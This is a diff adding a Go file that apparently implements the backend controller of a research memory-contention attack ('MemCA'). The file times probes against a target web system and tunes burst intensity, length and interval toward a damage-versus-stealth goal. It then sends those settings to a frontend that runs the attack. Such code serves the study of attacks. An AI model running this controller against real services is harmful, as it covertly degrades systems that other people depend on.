@@ -1,0 +1,285 @@
+package memcafw
+
+import (
+	"context"
+	"fmt"
+	"log"
+	"net"
+	"net/http"
+	"sort"
+	"sync"
+	"time"
+
+	"memca/internal/attack"
+	"memca/internal/control"
+)
+
+// ProbeFunc measures the target system's response time once. HTTPProbe
+// adapts a URL; tests inject synthetic probes.
+type ProbeFunc func(ctx context.Context) (time.Duration, error)
+
+// HTTPProbe returns a ProbeFunc that times a GET against the target web
+// system's front door — the lightweight probing of Section IV-C.
+func HTTPProbe(url string, timeout time.Duration) ProbeFunc {
+	client := &http.Client{Timeout: timeout}
+	return func(ctx context.Context) (time.Duration, error) {
+		req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
+		if err != nil {
+			return 0, fmt.Errorf("memcafw: building probe: %w", err)
+		}
+		start := time.Now()
+		resp, err := client.Do(req)
+		if err != nil {
+			// A timed-out probe is a damage signal: report the timeout
+			// itself as the observed latency.
+			return timeout, nil
+		}
+		if err := resp.Body.Close(); err != nil {
+			return 0, fmt.Errorf("memcafw: closing probe body: %w", err)
+		}
+		return time.Since(start), nil
+	}
+}
+
+// BackendConfig parameterizes MemCA-BE.
+type BackendConfig struct {
+	// FEAddr is the frontend's TCP address.
+	FEAddr string
+	// Probe measures the target's response time.
+	Probe ProbeFunc
+	// ProbePeriod separates probes (default 1 s).
+	ProbePeriod time.Duration
+	// Window is how many recent probes the percentile uses (default 30).
+	Window int
+	// Goal is the damage/stealth objective.
+	Goal control.Goal
+	// Bounds clamp the commander's search.
+	Bounds control.Bounds
+	// Initial are the attack parameters to start from.
+	Initial attack.Params
+	// DecisionEvery separates commander decisions (default 5 s).
+	DecisionEvery time.Duration
+	// Logger receives operational messages; nil disables logging.
+	Logger *log.Logger
+}
+
+// Backend is the MemCA-BE controller: it probes the target, smooths the
+// tail signal, decides new parameters, and pushes them to the FE.
+type Backend struct {
+	cfg       BackendConfig
+	conn      *conn
+	commander *control.Commander
+
+	mu       sync.Mutex
+	window   []time.Duration
+	reports  []BurstReport
+	feHello  Hello
+	lastSent attack.Params
+
+	ctx    context.Context
+	cancel context.CancelFunc
+	wg     sync.WaitGroup
+}
+
+// NewBackend validates the configuration, dials the FE, and reads its
+// hello.
+func NewBackend(cfg BackendConfig) (*Backend, error) {
+	if cfg.Probe == nil {
+		return nil, fmt.Errorf("memcafw: BE needs a probe function")
+	}
+	if cfg.ProbePeriod <= 0 {
+		cfg.ProbePeriod = time.Second
+	}
+	if cfg.Window <= 0 {
+		cfg.Window = 30
+	}
+	if cfg.DecisionEvery <= 0 {
+		cfg.DecisionEvery = 5 * time.Second
+	}
+	commander, err := control.NewCommander(cfg.Goal, cfg.Bounds, cfg.Initial)
+	if err != nil {
+		return nil, err
+	}
+	raw, err := net.Dial("tcp", cfg.FEAddr)
+	if err != nil {
+		return nil, fmt.Errorf("memcafw: dialing FE %s: %w", cfg.FEAddr, err)
+	}
+	c := newConn(raw)
+	env, err := c.recv()
+	if err != nil {
+		_ = c.close()
+		return nil, fmt.Errorf("memcafw: waiting for hello: %w", err)
+	}
+	if env.Type != MsgHello {
+		_ = c.close()
+		return nil, fmt.Errorf("memcafw: expected hello, got %q", env.Type)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	b := &Backend{
+		cfg:       cfg,
+		conn:      c,
+		commander: commander,
+		feHello:   *env.Hello,
+		lastSent:  cfg.Initial,
+		ctx:       ctx,
+		cancel:    cancel,
+	}
+	return b, nil
+}
+
+// FEInfo returns the connected frontend's hello.
+func (b *Backend) FEInfo() Hello { return b.feHello }
+
+// Commander exposes the controller for inspection.
+func (b *Backend) Commander() *control.Commander { return b.commander }
+
+// Reports returns a copy of the burst reports received so far.
+func (b *Backend) Reports() []BurstReport {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	out := make([]BurstReport, len(b.reports))
+	copy(out, b.reports)
+	return out
+}
+
+// TailRT returns the current window percentile of probe response times.
+func (b *Backend) TailRT(pct float64) time.Duration {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if len(b.window) == 0 {
+		return 0
+	}
+	cp := make([]time.Duration, len(b.window))
+	copy(cp, b.window)
+	sort.Slice(cp, func(i, j int) bool { return cp[i] < cp[j] })
+	idx := int(pct / 100 * float64(len(cp)-1))
+	return cp[idx]
+}
+
+// Run drives the control loop until ctx is canceled or the FE disconnects.
+// It sends the initial parameters immediately, probes continuously, and
+// decides periodically.
+func (b *Backend) Run(ctx context.Context) error {
+	if err := b.sendParams(b.cfg.Initial); err != nil {
+		return err
+	}
+
+	// Reader: collect burst reports.
+	readErr := make(chan error, 1)
+	b.wg.Add(1)
+	go func() {
+		defer b.wg.Done()
+		for {
+			env, err := b.conn.recv()
+			if err != nil {
+				readErr <- err
+				return
+			}
+			if env.Type == MsgBurstReport {
+				b.mu.Lock()
+				b.reports = append(b.reports, *env.Report)
+				b.mu.Unlock()
+			}
+		}
+	}()
+
+	// Prober: one probe per period.
+	b.wg.Add(1)
+	go func() {
+		defer b.wg.Done()
+		ticker := time.NewTicker(b.cfg.ProbePeriod)
+		defer ticker.Stop()
+		for {
+			select {
+			case <-b.ctx.Done():
+				return
+			case <-ctx.Done():
+				return
+			case <-ticker.C:
+				rt, err := b.cfg.Probe(ctx)
+				if err != nil {
+					b.logf("be: probe: %v", err)
+					continue
+				}
+				b.record(rt)
+			}
+		}
+	}()
+
+	decide := time.NewTicker(b.cfg.DecisionEvery)
+	defer decide.Stop()
+	for {
+		select {
+		case <-ctx.Done():
+			return b.shutdown()
+		case err := <-readErr:
+			b.cancel()
+			b.wg.Wait()
+			return fmt.Errorf("memcafw: FE connection lost: %w", err)
+		case <-decide.C:
+			obs := control.Observation{
+				TailRT:          b.TailRT(b.cfg.Goal.Percentile),
+				Millibottleneck: b.lastExec(),
+			}
+			next := b.commander.Decide(obs)
+			if next != b.lastSent {
+				if err := b.sendParams(next); err != nil {
+					b.cancel()
+					b.wg.Wait()
+					return err
+				}
+				b.logf("be: retuned to R=%.2f L=%v I=%v (tail %v)",
+					next.Intensity, next.BurstLength, next.Interval, obs.TailRT)
+			}
+		}
+	}
+}
+
+// shutdown tells the FE to stop and releases resources.
+func (b *Backend) shutdown() error {
+	if err := b.conn.send(Envelope{Type: MsgStop}); err != nil {
+		b.logf("be: sending stop: %v", err)
+	}
+	b.cancel()
+	err := b.conn.close()
+	b.wg.Wait()
+	if err != nil {
+		return fmt.Errorf("memcafw: closing FE connection: %w", err)
+	}
+	return nil
+}
+
+func (b *Backend) record(rt time.Duration) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	b.window = append(b.window, rt)
+	if len(b.window) > b.cfg.Window {
+		b.window = b.window[len(b.window)-b.cfg.Window:]
+	}
+}
+
+// lastExec returns the FE's latest execution-time report as the
+// millibottleneck estimate, or 0 when none arrived yet.
+func (b *Backend) lastExec() time.Duration {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if len(b.reports) == 0 {
+		return 0
+	}
+	return time.Duration(b.reports[len(b.reports)-1].ExecMs) * time.Millisecond
+}
+
+func (b *Backend) sendParams(p attack.Params) error {
+	msg := paramsToMsg(p.Intensity, p.BurstLength, p.Interval)
+	if err := b.conn.send(Envelope{Type: MsgSetParams, Params: &msg}); err != nil {
+		return err
+	}
+	b.lastSent = p
+	return nil
+}
+
+func (b *Backend) logf(format string, args ...any) {
+	if b.cfg.Logger != nil {
+		b.cfg.Logger.Printf(format, args...)
+	}
+}
